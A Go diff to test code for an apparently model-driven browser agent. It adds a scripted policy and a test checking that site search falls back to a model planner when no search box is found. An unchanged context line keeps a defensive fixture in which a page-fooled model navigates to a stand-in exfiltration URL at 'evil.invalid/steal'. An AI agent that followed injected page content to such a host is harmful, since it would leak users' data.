@@ -1,8 +1,10 @@
 package agent
 
 import (
+	"context"
 	"encoding/json"
 	"fmt"
+	"github.com/quarryhq/quarry/search"
 	"io"
 	"log/slog"
 	"net/http"
@@ -11,6 +13,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"github.com/quarryhq/quarry/engine/llm"
 )
@@ -139,6 +142,9 @@ func streamAnthropic(w http.ResponseWriter, answer string) {
 func id(prompt, role, name string) int {
 	page := prompt[strings.LastIndex(prompt, "Current page:"):]
 	re := regexp.MustCompile(`\[(\d+)\] ` + regexp.QuoteMeta(role) + `\d? "` + regexp.QuoteMeta(name))
+	if name == "" {
+		re = regexp.MustCompile(`\[(\d+)\] ` + regexp.QuoteMeta(role) + `( |\n)`)
+	}
 	s := re.FindStringSubmatch(page)
 	if s == nil {
 		return 0
@@ -262,6 +268,20 @@ var policies = map[string]func(stage, prompt string) string{
 		// A model fooled by the page: the code must refuse it.
 		return actions(act("navigate", 0, `"url":"http://evil.invalid/steal?data=all"`))
 	},
+	"hidden": func(stage, p string) string {
+		switch {
+		case stage == "plan":
+			return plan
+		case stage == "verify":
+			return `{"ok":false,"reason":"nothing changed"}`
+		case id(p, "link", "Rainfall in the northern") > 0:
+			return actions(act("finish", 0, `"answer":"results listed"`))
+		case id(p, "textbox", "") > 0:
+			box := id(p, "textbox", "")
+			return actions(act("type", box, `"text":"rainfall"`), act("press", box, `"key":"Enter"`))
+		}
+		return actions(act("click", id(p, "button", "Open the finder"), ""))
+	},
 	"buy": func(stage, p string) string {
 		if stage == "plan" {
 			return plan
@@ -371,5 +391,25 @@ func TestModelFixtures(t *testing.T) {
 			t.Logf("%s: %d steps, %d model calls", c.policy, len(res.Steps), len(m.prompts))
 			c.check(t, res, m)
 		})
+	}
+}
+
+// TestSiteSearchFallsBackToModel: the rules find no search box on the
+// page; the site search then runs again with the model planner, which
+// opens the finder, types and submits.
+func TestSiteSearchFallsBackToModel(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
+	defer cancel()
+	m, e := newScriptedModel(t, llm.ProviderOpenAI, policies["hidden"])
+	if _, err := SiteSearch(Options{Pool: testPool}, nil)(ctx, testSite.url("/hidden"), "rainfall"); err == nil || !strings.Contains(err.Error(), "no search box") {
+		t.Fatalf("rules alone: %v, want no search box", err)
+	}
+	r, err := SiteSearch(Options{Pool: testPool}, NewModelPlanner(e))(ctx, testSite.url("/hidden"), "rainfall")
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := search.Harvest("site:test", r.FinalURL, r.HTML)
+	if err != nil || len(got) != 3 { // the finder shows the first three
+		t.Fatalf("harvested %d results (%v) after %d model calls", len(got), err, len(m.prompts))
 	}
 }
